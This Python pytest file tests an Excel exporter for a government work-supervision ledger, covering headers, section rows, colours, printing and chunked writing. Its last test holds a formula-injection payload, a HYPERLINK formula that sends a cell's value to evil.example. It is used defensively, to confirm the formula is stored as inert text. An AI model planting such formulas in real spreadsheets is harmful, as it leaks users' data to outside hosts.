"""The Excel ledger (督查台账): the notice's columns and values, section rows, colours, printing."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from copy import copy
from dataclasses import replace
from datetime import date, datetime
from io import BytesIO
from itertools import pairwise
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bot import texts
from bot.domain.ledger import LedgerRow
from bot.domain.model import ReportInfo
from bot.domain.status import Light, MarkedComplete, OnTrack, Overdue, ScheduleCheck, Status
from bot.services.workbook import FILLS, HEADER_ROW, WIDTHS, LedgerWriter, build_ledger, cell_text
from tests.harness import SEED

SH = ZoneInfo("Asia/Shanghai")
AS_OF = date(2026, 3, 27)
STATUSES = {
    Light.RED: Status(Light.RED, (Overdue("发改局", "2026-03", date(2026, 3, 25), 2, 2),)),
    Light.YELLOW: Status(Light.YELLOW, ()),
    Light.GREEN: Status(Light.GREEN, (OnTrack(ScheduleCheck.NO_PERCENT),)),
    Light.DONE: Status(Light.DONE, (MarkedComplete(date(2026, 3, 20)),)),
}


def seed_tasks() -> list[dict[str, Any]]:
    tasks: list[dict[str, Any]] = json.loads(SEED.read_text(encoding="utf-8"))["tasks"]
    return tasks


def rows_from_seed() -> list[LedgerRow]:
    """Ledger rows with the seed's register values and made-up progress."""
    lights = list(Light)
    out = []
    for t in seed_tasks():
        light = lights[t["no"] % 4]
        report = ReportInfo(
            id=t["no"],
            task_id=t["no"],
            unit_id=1,
            unit=t["lead_units"][0],
            cycle_key="2026-03",
            text=f"第{t['no']}项进展",
            created_at=datetime(2026, 3, 20, 9, tzinfo=SH),
        )
        out.append(
            LedgerRow(
                no=t["no"],
                section=t["section"],
                subsection=t["subsection"],
                text=t["text"],
                lead=tuple(t["lead_units"]),
                responsible=tuple(t["responsible_units"]),
                leaders=tuple(t["leaders"]),
                latest=((t["lead_units"][0], report),) if t["no"] % 3 else (),
                percent=40.0 if t["no"] == 6 else None,
                expected=date(2026, 6, 30) if t["no"] == 6 else None,
                status=STATUSES[light],
                overdue_workdays=2 if light is Light.RED else None,
                nudges=t["no"] % 2,
                # Every other task acknowledged by all its lead units.
                unacknowledged=tuple(t["lead_units"]) if t["no"] % 2 else (),
                returns=t["no"] % 3,
                closures=((t["lead_units"][0], "applied"),) if t["no"] == 7 else (),
                closed=t["no"] == 8,
            )
        )
    return out


def sheet(data: bytes) -> Worksheet:
    ws = load_workbook(BytesIO(data)).active
    assert isinstance(ws, Worksheet)
    return ws


def task_rows(ws: Worksheet) -> dict[int, tuple[Any, ...]]:
    """Rows that hold a task, by 序号."""
    out: dict[int, tuple[Any, ...]] = {}
    for row in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True):
        if isinstance(row[0], int):
            out[row[0]] = row
    return out


@pytest.fixture(scope="module")
def ledger() -> Worksheet:
    return sheet(build_ledger(rows_from_seed(), year=2026, as_of=AS_OF, tz=SH))


def test_title_and_headers_in_the_notice_order(ledger: Worksheet) -> None:
    assert ledger["A1"].value == "2026年《政府工作报告》重点工作目标任务督查台账"
    assert ledger["A2"].value == "市大督导办　截至2026年3月27日（周五）"
    headers = [c.value for c in ledger[HEADER_ROW]]
    assert headers[:5] == ["序号", "具体目标任务", "牵头单位", "责任单位", "市政府分管（挂钩）领导"]
    assert headers == list(texts.LEDGER_HEADERS)
    assert f"A1:{get_column_letter(len(headers))}1" in {str(m) for m in ledger.merged_cells.ranges}


def test_every_task_with_the_notice_values_cell_for_cell(ledger: Worksheet) -> None:
    rows = task_rows(ledger)
    tasks = seed_tasks()
    assert sorted(rows) == list(range(1, 89))
    for t in tasks:
        row = rows[t["no"]]
        assert row[1] == t["text"]
        assert row[2] == "\n".join(t["lead_units"])
        assert row[3] == ("\n".join(t["responsible_units"]) or None)
        assert row[4] == "\n".join(t["leaders"])


def seed_lead_units(no: int) -> list[str]:
    """The lead units of task `no` as the register resolves them (groups expanded)."""
    task = next(t for t in seed_tasks() if t["no"] == no)
    return list(task["lead_units"])


def test_progress_columns(ledger: Worksheet) -> None:
    rows = task_rows(ledger)
    six = rows[6]
    assert six[5] is None  # no report
    assert six[6] == pytest.approx(0.4)
    assert six[7].date() == date(2026, 6, 30)
    assert rows[7][5] == "商务局（3月20日，3月）：第7项进展"
    red = rows[7]  # 7 % 4 == 3: red
    assert red[8] == "红灯：发改局3月进展逾期2个工作日未报（截止3月25日（周三））"
    assert (red[9], red[10]) == (2, 1)
    assert rows[8][8] == "已完成：已标记完成（3月20日）"
    # 签收: which lead units have not; a completed task needs none.
    assert red[11] == "未签收：" + "、".join(seed_lead_units(7))
    assert six[11] == "已签收"
    assert rows[8][11] == "—"
    # 延期 (none here), 退回次数 and 销号.
    assert six[13] is None
    assert (red[14], six[14]) == (1, 0)
    assert red[15] == f"{seed_lead_units(7)[0]}待审核"
    assert rows[8][15] == "已销号" and six[15] is None


def test_section_rows_merged_in_the_notice_order(ledger: Worksheet) -> None:
    headings = [
        (r, ledger.cell(r, 1).value)
        for r in range(HEADER_ROW + 1, ledger.max_row + 1)
        if isinstance(ledger.cell(r, 1).value, str)
    ]
    names = [h for _, h in headings]
    assert names == [
        "一、2026年主要预期目标",
        "二、2026年重点工作任务",
        "（一）全力激发经济动能",
        "（二）全链驱动产业升级",
        "（三）全域塑优城市品质",
        "（四）全面推进乡村振兴",
        "（五）全心提升民生福祉",
        "三、加强政府自身建设",
    ]
    merged = {str(m) for m in ledger.merged_cells.ranges}
    last = get_column_letter(len(texts.LEDGER_HEADERS))
    for r, _ in headings:
        assert f"A{r}:{last}{r}" in merged
    # A heading comes right before the first task under it.
    assert ledger.cell(headings[2][0] + 1, 1).value == 6
    assert ledger.cell(headings[-1][0] + 1, 1).value == 85


def test_status_cells_are_coloured(ledger: Worksheet) -> None:
    for r in range(HEADER_ROW + 1, ledger.max_row + 1):
        no = ledger.cell(r, 1).value
        if not isinstance(no, int):
            continue
        light = list(Light)[no % 4]
        assert ledger.cell(r, 9).fill.fgColor.rgb.endswith(FILLS[light]), no


def test_printing_on_a4_landscape(ledger: Worksheet) -> None:
    setup = ledger.page_setup
    assert setup.orientation == "landscape"
    assert setup.paperSize is not None and int(setup.paperSize) == int(ledger.PAPERSIZE_A4)
    assert setup.fitToWidth == 1
    fit = ledger.sheet_properties.pageSetUpPr
    assert fit is not None and fit.fitToPage
    assert ledger.print_title_rows == "$3:$3"
    assert ledger.freeze_panes == "A4"
    assert ledger.column_dimensions["B"].width >= 40
    assert ledger.cell(HEADER_ROW + 2, 2).alignment.wrap_text


@pytest.mark.parametrize(
    ("values", "cell"), [((), ""), (("发改局",), "发改局"), (("a", "b"), "a\nb")]
)
def test_cell_text(values: tuple[str, ...], cell: str) -> None:
    assert cell_text(values) == cell


def test_empty_ledger_still_opens() -> None:
    ws = sheet(build_ledger([], year=2026, as_of=AS_OF, tz=SH))
    assert ws.max_row == HEADER_ROW


def test_cli_export_writes_the_ledger(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot import cli

    monkeypatch.chdir(tmp_path)  # no .env here; the default file name lands here
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    monkeypatch.setenv("BOT_TOKEN", "1:x")
    assert cli.main(["export"]) == 1  # nothing imported yet
    assert texts.EXPORT_EMPTY in capsys.readouterr().err
    assert cli.main(["import-tasks", str(SEED)]) == 0
    out = tmp_path / "台账.xlsx"
    assert cli.main(["export", "-o", str(out)]) == 0
    assert "（88项任务）" in capsys.readouterr().out
    assert sorted(task_rows(sheet(out.read_bytes()))) == list(range(1, 89))
    assert cli.main(["export"]) == 0
    assert list(tmp_path.glob("督查台账-*.xlsx"))


def content(data: bytes) -> dict[str, Any]:
    """What a reader of the sheet sees: every cell's value and styles, merges, sizes, printing."""
    ws = sheet(data)
    return {
        "cells": [
            (
                c.coordinate,
                c.value,
                c.number_format,
                copy(c.font),
                copy(c.fill),
                copy(c.border),
                copy(c.alignment),
            )
            for row in ws.iter_rows()
            for c in row
        ],
        "merged": {str(m) for m in ws.merged_cells.ranges},
        "heights": {r: d.height for r, d in ws.row_dimensions.items()},
        "widths": {c: d.width for c, d in ws.column_dimensions.items()},
        "panes": (ws.freeze_panes, ws.print_title_rows),
        "printing": (ws.page_setup, ws.page_margins, ws.print_options, ws.sheet_properties),
    }


def chunked(rows: Sequence[LedgerRow], cuts: Sequence[int]) -> Iterator[Iterator[LedgerRow]]:
    """The rows cut before each index in `cuts`, each chunk a one-pass iterator."""
    bounds = [0, *cuts, len(rows)]
    for start, end in pairwise(bounds):
        yield iter(rows[start:end])


@pytest.mark.parametrize(
    "cuts",
    [
        # cuts: within 一 (no subsection); at （一）, under a new section; within （一）;
        # an empty chunk within （三）; at 三
        (2, 5, 7, 40, 40, 84),
        tuple(range(1, 88)),  # one row at a time
    ],
    ids=["irregular", "row-by-row"],
)
def test_rows_added_in_chunks_make_the_same_workbook(cuts: tuple[int, ...]) -> None:
    rows = rows_from_seed()
    continuing = [
        c
        for c in cuts
        if (rows[c - 1].section, rows[c - 1].subsection) == (rows[c].section, rows[c].subsection)
    ]
    assert continuing  # some chunk goes on with the section and subsection of the one before
    writer = LedgerWriter(year=2026, as_of=AS_OF, tz=SH)
    for chunk in chunked(rows, cuts):
        writer.add(chunk)
    data = writer.finish()
    assert content(data) == content(build_ledger(rows, year=2026, as_of=AS_OF, tz=SH))
    ws = sheet(data)
    headings = [
        r for r in range(HEADER_ROW + 1, ws.max_row + 1) if isinstance(ws.cell(r, 1).value, str)
    ]
    assert len(headings) == 8  # no section heading repeated at a chunk boundary
    assert sorted(task_rows(ws)) == list(range(1, 89))


def test_an_empty_ledger_has_the_title_and_header_rows_only() -> None:
    writer = LedgerWriter(year=2026, as_of=AS_OF, tz=SH)
    writer.add([])
    writer.add(iter(()))
    data = writer.finish()
    untouched = LedgerWriter(year=2026, as_of=AS_OF, tz=SH).finish()
    assert content(data) == content(untouched)
    assert content(data) == content(build_ledger([], year=2026, as_of=AS_OF, tz=SH))
    ws = sheet(data)
    assert ws.max_row == HEADER_ROW
    assert ws["A1"].value == texts.ledger_title(2026)
    assert ws["A2"].value == texts.ledger_subtitle(AS_OF)
    assert [c.value for c in ws[HEADER_ROW]] == list(texts.LEDGER_HEADERS)
    last = get_column_letter(len(texts.LEDGER_HEADERS))
    assert {str(m) for m in ws.merged_cells.ranges} == {f"A1:{last}1", f"A2:{last}2"}
    assert ws.freeze_panes == "A4"
    assert ws.print_title_rows == "$3:$3"


def test_a_finished_writer_cannot_be_used() -> None:
    writer = LedgerWriter(year=2026, as_of=AS_OF, tz=SH)
    writer.add(rows_from_seed()[:3])
    writer.finish()
    with pytest.raises(RuntimeError):
        writer.add(rows_from_seed()[3:4])
    with pytest.raises(RuntimeError):
        writer.finish()


def test_styles_of_each_kind_of_row(ledger: Worksheet) -> None:
    """The formatting of each kind of row: title, date, header, section and task rows."""
    title = ledger["A1"]
    assert (title.font.b, title.font.sz) == (True, 16)
    assert (title.alignment.horizontal, title.alignment.vertical) == ("center", "center")
    assert ledger.row_dimensions[1].height == 30
    assert ledger["A2"].alignment.horizontal == "right"
    last = get_column_letter(len(texts.LEDGER_HEADERS))
    assert f"A2:{last}2" in {str(m) for m in ledger.merged_cells.ranges}
    for cell in ledger[HEADER_ROW]:
        assert cell.font.b
        assert cell.fill.fgColor.rgb.endswith("DDEBF7")
        assert cell.border.left.style == cell.border.bottom.style == "thin"
        assert cell.alignment.horizontal == "center"
    heading = HEADER_ROW + 1  # 一、…
    assert ledger.cell(heading, 1).font.b
    assert all(c.border.top.style == "thin" for c in ledger[heading])
    six = next(r for r in range(heading, ledger.max_row + 1) if ledger.cell(r, 1).value == 6)
    assert ledger.cell(six, 7).number_format == "0.0%"
    assert ledger.cell(six, 8).number_format == "yyyy-mm-dd"
    assert ledger.cell(six, 2).alignment.vertical == "top"
    assert ledger.cell(six, 3).alignment.horizontal == "center"
    assert all(c.border.right.style == "thin" for c in ledger[six])
    columns = range(1, len(WIDTHS) + 1)
    widths = [ledger.column_dimensions[get_column_letter(i)].width for i in columns]
    assert widths == list(WIDTHS)
    assert ledger.page_setup.fitToHeight == 0
    assert (ledger.page_margins.left, ledger.page_margins.top) == (0.4, 0.5)
    assert ledger.print_options.horizontalCentered


def test_hostile_text_neither_breaks_the_ledger_nor_runs(tmp_path: Path) -> None:
    """A vertical tab or NUL from a pasted sheet, U+FFFE/U+FFFF in a report, a formula in a
    task's text, and a 最新进展 over Excel's cell limit (issue 19, findings 5 and 6)."""
    rows = rows_from_seed()[:3]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    long_report = ReportInfo(
        id=999,
        task_id=rows[1].no,
        unit_id=2,
        unit="工信局",
        cycle_key="2026-03",
        text="进展" * 20_000 + "完",
        created_at=datetime(2026, 3, 21, 9, tzinfo=SH),
    )
    rows[0] = replace(rows[0], text="第一行\x0b第二行\x00", lead=(formula,))
    rows[1] = replace(
        rows[1],
        latest=(
            ("发改局", replace(long_report, unit="发改局", text="坏\ufffe字\uffff")),
            ("工信局", long_report),
        ),
    )
    data = build_ledger(rows, year=2026, as_of=date(2026, 3, 27), tz=SH)
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(data)
    book = load_workbook(path)  # opens: nothing illegal in the XML
    ws = book["督查台账"]
    first = next(r for r in ws.iter_rows() if r[0].value == rows[0].no)
    assert first[1].value == "第一行\n第二行"
    assert first[2].value == formula and first[2].data_type == "s"  # text, not a formula
    second = next(r for r in ws.iter_rows() if r[0].value == rows[1].no)
    latest = second[5].value
    assert isinstance(latest, str) and len(latest) <= 32_767
    assert latest.endswith(texts.ledger_continued(rows[1].no)) and "坏字" in latest
    more = book[texts.LEDGER_CONTINUATION_SHEET]
    continued = [r for r in more.iter_rows(min_row=2, values_only=True) if r[0] == rows[1].no]
    assert continued and continued[0][1] == "最新进展"
    whole = latest.removesuffix(texts.ledger_continued(rows[1].no)) + "".join(
        str(r[3]).removesuffix(texts.ledger_continued(rows[1].no)) for r in continued
    )
    assert whole.endswith("完") and whole.count("进展") == 20_000  # nothing cut
